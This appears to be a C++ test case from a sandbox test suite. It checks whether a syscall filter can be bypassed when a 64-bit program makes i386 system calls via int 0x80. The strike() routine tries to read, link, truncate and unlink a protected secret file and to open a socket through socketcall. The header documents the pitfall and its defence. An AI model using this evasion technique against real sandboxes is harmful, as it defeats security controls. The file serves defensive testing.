// attack: int80-and-mixed-arch
// class: abi
// severity: critical
// models: naive
// needs: x86
// bits: 64, for int 0x80 is how every attack calls in an i386 program
// trap: A 64-bit program enters the kernel by "int $0x80": numbers and arguments are those of i386.
//   5 is open there and fstat here; 102 is socketcall.
// naive: Looks 5 up in the 64-bit table, or takes the code segment for the ABI.
// kernel: int 0x80 is always the compat entry; CS stays 0x33; seccomp_data.arch and
//   PTRACE_GET_SYSCALL_INFO say i386 (seccomp_filter.rst, Pitfalls).
// sealed: The ABI is asked of the kernel at every stop; the filter checks it first; each ABI has
//   its own numbers in the one table.
// source: strace test int_0x80.c; VIDA-NYU/reprozip#114
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: $S/key
#include "tests/support/int80.h"

namespace attack {

void strike() {
  need_32_bit_calls();
  char* low = low_memory();
  std::strcpy(low, secret().c_str());
  if (way("open")) take(static_cast<int>(int80(5, word(low), O_RDONLY)));
  if (way("openat")) take(static_cast<int>(int80(295, AT_FDCWD, word(low), O_RDONLY)));
  std::strcpy(low + 8192, work("stolen").c_str());
  if (way("link") && int80(9, word(low), word(low + 8192)) == 0) take(work("stolen"));
  if (way("truncate") && int80(92, word(low), 0) == 0) prey_taken("truncated");
  if (way("unlink") && int80(10, word(low)) == 0) prey_taken("unlinked");
  // socketcall(SYS_SOCKET), then SYS_CONNECT, with arguments in memory.
  auto* words = reinterpret_cast<uint32_t*>(low + 4096);
  words[0] = AF_INET;
  words[1] = SOCK_STREAM;
  words[2] = 0;
  long s = int80(102, 1, word(low + 4096));
  if (s >= 0 && way("socketcall")) {
    sockaddr_in address = v4("127.0.0.1", number("ATTACK_TCP"));
    std::memcpy(low + 12288, &address, sizeof address);
    words[0] = static_cast<uint32_t>(s);
    words[1] = word(low + 12288);
    words[2] = sizeof address;
    if (int80(102, 3, word(low + 4096)) == 0) prey_taken(read_all(static_cast<int>(s)));
  }
  errno = EACCES;
  held("int 0x80");
}

void twin() {
  need_32_bit_calls();
  char* low = low_memory();
  std::strcpy(low, work("ok.dat").c_str());
  must(int80(20, 0) == ::getpid(), "getpid");
  long fd = int80(5, word(low), O_RDONLY);
  must(fd >= 0, "open by int 0x80");
  must(read_all(static_cast<int>(fd)) == "harmless\n", "read");
  must(int80(6, fd) == 0, "close");
  std::strcpy(low, work("dir").c_str());
  must(int80(39, word(low), 0755) == 0, "mkdir by int 0x80");
  must(::access(work("dir").c_str(), F_OK) == 0, "and 64-bit calls go on");
  must(int80(40, word(low)) == 0, "rmdir by int 0x80");
  must(int80(9999, 0) == -ENOSYS, "an unknown number");
  twin_ok();
}

}  // namespace attack
